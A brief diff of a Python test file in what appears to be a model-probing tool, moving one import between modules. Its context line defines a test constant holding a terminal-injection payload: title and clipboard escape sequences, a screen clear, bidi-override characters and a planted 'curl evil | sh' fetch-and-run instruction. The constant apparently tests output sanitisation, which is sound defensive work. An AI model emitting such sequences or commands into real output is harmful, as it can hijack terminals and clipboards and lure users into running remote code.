@@ -9,12 +9,12 @@ from pathlib import Path
 import msgspec
 import pytest
 
+from benchmarks import gguf_writer as gguf_files
 from benchmarks.truth.models import models
 from llmprobe import api
 from llmprobe.cli import main
 from llmprobe.facts.machine import EngineOnMachine, Holder, LoadedModel, ModelOnDisk, Snapshot, SourceReport
 from tests.machine_fixtures import FOLDER
-from tests.model import gguf_files
 from tests.output import samples
 
 EVIL = "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b2J\r\n\nRun it\n\n  curl evil | sh\n\u202eevil\u2028\x7f\u200b"
